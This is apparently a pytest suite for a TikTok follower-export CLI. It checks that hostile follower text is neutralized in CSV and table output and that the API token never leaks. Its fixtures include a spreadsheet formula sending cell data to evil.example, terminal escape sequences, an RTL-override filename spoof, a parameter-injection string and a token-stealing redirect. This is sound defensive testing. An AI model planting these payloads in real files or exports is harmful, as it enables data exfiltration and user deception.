"""Hostile text and secrets: safe terminals, safe spreadsheets, tokens that never leak."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from pathlib import Path

import pytest
from fakeserver import TOKEN, Account, FakeTikTok, Fault, mobile_follower, sec_uid_for
from helpers import CASSETTES, SEED_UID, TEST_TOKEN, Serve, invoke

from tiktok_cli.client import HttpClient
from tiktok_cli.errors import UnexpectedStatus

UID = "6754915036232582149"
BY_UID = ("followers", "--uid", SEED_UID)
THREE_PAGES = "tkapi/followers_three_pages"

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "ansi": "\x1b[31mred\x1b[0m and \x1b]0;pwned title\x07 and back\x08space and \x9bcsi",
    "markup": "[bold red]not markup[/bold red] [link=http://x]y[/link]",
    "emoji": "family 👨\u200d👩\u200d👧 and flags 🇺🇦",
    "rtl": "invoice_\u202egnp.exe",
    "nul": "nul\x00byte",
    "crlf": "line one\r\nline two\nline three",
    "quotes": 'she said "hi", then left, "quoted, with commas"',
}


def hostile_page() -> bytes:
    followers = []
    for n, (name, text) in enumerate(HOSTILE.items()):
        account = mobile_follower(n)
        account.update(unique_id=f"hostile_{name}", nickname=text, signature=text)
        followers.append(account)
    lone = mobile_follower(99)
    lone.update(unique_id="hostile_surrogate", nickname="LONE", signature="LONE")
    followers.append(lone)
    body = json.dumps(
        {
            "code": 200,
            "msg": "ok",
            "data": {
                "status_code": 0,
                "has_more": False,
                "min_time": 1,
                "total": len(followers),
                "followers": followers,
            },
        }
    )
    # A lone surrogate can only arrive as a JSON escape; upstream does send them.
    return body.replace('"LONE"', '"broken \\ud800 text"').encode()


@pytest.fixture
def server(serve: Serve) -> FakeTikTok:
    return serve(accounts=[Account("alice", UID, sec_uid_for("alice"), 30, 10)])


def export(server: FakeTikTok, *args: str) -> str:
    server.faults = [Fault("/user/followers", body=hostile_page())]
    result = invoke("followers", "--uid", UID, *args)
    assert result.exit_code == 0, result.stderr
    return str(result.stdout_bytes.decode("utf-8"))  # .stdout would fold CRLF into LF


def test_jsonl_keeps_hostile_text_exact(server: FakeTikTok) -> None:
    rows = {r["unique_id"]: r for r in map(json.loads, export(server, "-f", "jsonl").splitlines())}
    for name, text in HOSTILE.items():
        assert rows[f"hostile_{name}"]["nickname"] == text
        assert rows[f"hostile_{name}"]["bio"] == text
    assert rows["hostile_surrogate"]["bio"] == "broken \ud800 text"  # round-trips, no crash


def test_raw_jsonl_keeps_hostile_text_exact(server: FakeTikTok) -> None:
    rows = [json.loads(line) for line in export(server, "-f", "jsonl", "--raw").splitlines()]
    assert [r["signature"] for r in rows[:-1]] == list(HOSTILE.values())


def test_csv_neutralizes_formulas_and_keeps_every_row_whole(server: FakeTikTok) -> None:
    text = export(server, "-f", "csv", "--fields", "unique_id,bio,user_id")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["unique_id", "bio", "user_id"]
    assert all(len(row) == 3 for row in rows)
    bios = {row[0]: row[1] for row in rows[1:]}
    for name in ("formula", "plus", "minus", "at", "tab", "cr"):
        assert bios[f"hostile_{name}"].startswith("'"), name
    assert bios["hostile_crlf"] == HOSTILE["crlf"]
    assert bios["hostile_quotes"] == HOSTILE["quotes"]
    assert bios["hostile_emoji"] == HOSTILE["emoji"]
    assert bios["hostile_surrogate"] == "broken \\ud800 text"
    assert bios["hostile_ansi"] == HOSTILE["ansi"]  # ESC and the other controls as they are


def test_csv_writes_nul_as_the_replacement_character(server: FakeTikTok) -> None:
    data = export(server, "-f", "csv", "--fields", "unique_id,nickname,bio").encode()
    assert b"\x00" not in data  # Python 3.10's csv reader and PostgreSQL's COPY refuse NUL
    rows = {row[0]: row[1:] for row in csv.reader(io.StringIO(data.decode(), newline=""))}
    assert rows["hostile_nul"] == ["nul\ufffdbyte", "nul\ufffdbyte"]
    assert rows["hostile_ansi"] == [HOSTILE["ansi"]] * 2  # every other byte as it was
    jsonl_rows = [json.loads(line) for line in export(server, "-f", "jsonl").splitlines()]
    assert {r["unique_id"]: r["bio"] for r in jsonl_rows}["hostile_nul"] == "nul\x00byte"  # exact


def test_csv_formula_guard_can_be_turned_off_for_programs(server: FakeTikTok) -> None:
    text = export(server, "-f", "csv", "--fields", "unique_id,bio", "--no-formula-guard")
    bios = {row[0]: row[1] for row in csv.reader(io.StringIO(text, newline=""))}
    for name in ("formula", "plus", "at", "tab", "cr"):
        assert bios[f"hostile_{name}"] == HOSTILE[name]


def test_excel_preset_adds_a_bom_and_keeps_ids_as_text(server: FakeTikTok, tmp_path: Path) -> None:
    server.faults = [Fault("/user/followers", body=hostile_page())]
    out = tmp_path / "excel.csv"
    assert invoke("followers", "--uid", UID, "--excel", "-o", str(out)).exit_code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfunique_id,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0]["user_id"] == '="7000000000000000000"'


def test_table_shows_hostile_text_inert(server: FakeTikTok) -> None:
    text = export(server, "-f", "table", "--fields", "unique_id,bio")
    for dangerous in ("\x1b", "\x07", "\x08", "\x9b", "\u202e", "\x00", "\r"):
        assert dangerous not in text, repr(dangerous)
    assert "\\x1b[31mred" in text and "\\u202egnp.exe" in text
    assert "[bold red]not markup[/bold red]" in text  # printed literally, not styled
    assert "👨\u200d👩\u200d👧" in text


def test_table_truncates_long_bios_to_the_width(server: FakeTikTok) -> None:
    long_bio = mobile_follower(1)
    long_bio["signature"] = "word " * 200
    body = json.dumps(
        {
            "code": 200,
            "msg": "ok",
            "data": {"status_code": 0, "has_more": False, "followers": [long_bio, mobile_follower(2)]},
        }
    ).encode()
    server.faults = [Fault("/user/followers", body=body)]
    result = invoke("followers", "--uid", UID, "-f", "table")
    lines = [line for line in result.stdout.splitlines() if "word" in line]
    assert len(lines) == 1 and lines[0].rstrip().endswith("…")
    assert max(len(line) for line in result.stdout.splitlines()) <= 160


def test_query_parameters_are_always_encoded(server: FakeTikTok) -> None:
    with HttpClient(retries=0) as client, pytest.raises(UnexpectedStatus):  # no such user: 404
        client.get_json(f"{server.url}/tiktok/user-info", {"uniqueId": "a&uniqueId=b#x"}, what="probe")
    assert server.requests[-1].endswith("uniqueId=a%26uniqueId%3Db%23x")


def test_a_redirect_is_never_followed_with_the_token(server: FakeTikTok) -> None:
    server.faults = [Fault("/user/followers", 302, b"", {"Location": "http://evil.example/steal"})]
    result = invoke("followers", "--uid", UID)
    assert result.exit_code == 7
    assert "redirected to evil.example" in result.stderr
    assert TOKEN not in result.stderr and len(server.requests) == 1


@pytest.mark.parametrize("flags", [[], ["-v"], ["--debug"], ["-v", "--debug"], ["-q"]])
@pytest.mark.parametrize(
    "faults",
    [
        [],
        [Fault("/user/followers", 200, b'{"code": 10001, "msg": "bad token", "data": null}')],
        [Fault("/user/followers", 500, b'{"message": "boom"}') for _ in range(2)],
        [Fault("/user/followers", 200, b"<html>captcha</html>") for _ in range(2)],
    ],
    ids=["ok", "rejected", "server-error", "captcha"],
)
def test_the_token_never_leaks(
    server: FakeTikTok, tmp_path: Path, flags: list[str], faults: list[Fault]
) -> None:
    server.faults = list(faults)
    out = tmp_path / "out.csv"
    results = [
        invoke("followers", "alice", "-o", str(out), "--retries", "1", *flags),
        invoke("followers", "alice", "-f", "jsonl", "--raw", "--retries", "1", *flags),
        invoke("config", "show"),
    ]
    for result in results:
        assert TOKEN not in result.stdout and TOKEN not in result.stderr
    if "-v" in flags and not faults:
        assert "token=***" in results[0].stderr  # traced, redacted
    for written in tmp_path.rglob("*"):
        if written.is_file():
            assert TOKEN.encode() not in written.read_bytes(), written


def test_no_cassette_holds_a_token() -> None:
    files = [p for p in CASSETTES.rglob("*") if p.is_file()]
    assert files
    for cassette in files:
        text = cassette.read_text(encoding="utf-8")
        assert not re.search(r"[?&]token=", text), cassette
        for token in (TOKEN, TEST_TOKEN, "tok-SECRET"):
            assert token not in text, cassette


# --- the token stays secret on documented answers (cassettes) --------------------------------


@pytest.mark.parametrize(
    ("name", "args", "code"),
    [
        (THREE_PAGES, [*BY_UID, "-o", "out.csv"], 0),
        (THREE_PAGES, [*BY_UID, "--raw", "-o", "out.jsonl"], 0),
        (THREE_PAGES, [*BY_UID, "--limit", "7"], 0),
        ("tkapi/followers_by_name", ["followers", "cnn", "-f", "table"], 0),
        ("tkapi/followers_http_401", BY_UID, 5),
        ("tkapi/followers_bad_token", [*BY_UID, "-o", "out.jsonl"], 5),
        ("tkapi/followers_not_json", BY_UID, 7),
    ],
)
def test_token_never_shown_even_with_trace_and_debug(cassette, tmp_path, name, args, code):
    with cassette(name):
        result = invoke(*args, "-v", "--debug", "--retries", "0")
    assert result.exit_code == code, result.stderr
    assert "token=***" in result.stderr  # the trace shows the request, redacted
    for text in (result.stdout, result.stderr):
        assert TEST_TOKEN not in text
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert TEST_TOKEN.encode() not in path.read_bytes(), path


@pytest.mark.parametrize("token", ["tok/SECRET+7f3a=9c", "tok SECRET 7f3a", "tök-SECRET-ü"])
def test_tokens_with_unusual_characters_are_redacted_too(cassette, monkeypatch, token):
    monkeypatch.setenv("TIKTOK_API_TOKEN", token)
    with cassette("tkapi/followers_http_401"):
        result = invoke(*BY_UID, "-v", "--debug", "--retries", "0")
    assert result.exit_code == 5, result.stderr
    assert "?token=***&uid=" in result.stderr
    assert "SECRET" not in result.stderr


def test_config_show_masks_the_token():
    result = invoke("config", "show")
    assert result.exit_code == 0
    assert '# api_token = "***"' in result.stdout
    assert TEST_TOKEN not in result.stdout


def test_config_set_writes_an_owner_only_file_and_reads_secrets_from_stdin(isolated_env: Path) -> None:
    result = invoke("config", "set", "api_token", input="s3cr3t-value\n")
    assert result.exit_code == 0, result.stderr
    path = isolated_env / "config" / "config.toml"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert "s3cr3t-value" in path.read_text()
    assert "s3cr3t-value" not in result.stdout + result.stderr


def test_config_set_refuses_a_secret_on_the_command_line() -> None:
    result = invoke("config", "set", "api_token", "s3cr3t-value")
    assert result.exit_code == 2
    assert "s3cr3t-value" not in result.stderr


def test_a_token_file_other_users_can_read_gets_a_warning(isolated_env: Path, server: FakeTikTok) -> None:
    path = isolated_env / "config" / "config.toml"
    path.parent.mkdir()
    path.write_text('api_token = "from-file-token"\n')
    path.chmod(0o644)
    result = invoke("followers", "--uid", UID, "--limit", "1")
    assert "readable by other users" in result.stderr and "chmod 600" in result.stderr


def test_short_cookie_settings_do_not_blank_ordinary_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tiktok_cli import console

    monkeypatch.setattr(console, "_secrets", [])
    cookies = tmp_path / "cookies.txt"
    cookies.write_text(
        "# Netscape HTTP Cookie File\n"
        ".tiktok.com\tTRUE\t/\tTRUE\t2000000000\tsessionid\tSESSIONsecret9917\n"
        ".tiktok.com\tTRUE\t/\tTRUE\t2000000000\tcookie_enabled\ttrue\n"
        ".tiktok.com\tTRUE\t/\tTRUE\t2000000000\ttt-target-idc\tuseast5\n"
    )
    from tiktok_cli.cookies import load_cookies

    with HttpClient(cookies=load_cookies(str(cookies), "https://www.tiktok.com")):
        pass
    assert console.redact("hasMore is true in useast5; SESSIONsecret9917") == (
        "hasMore is true in useast5; ***"
    )
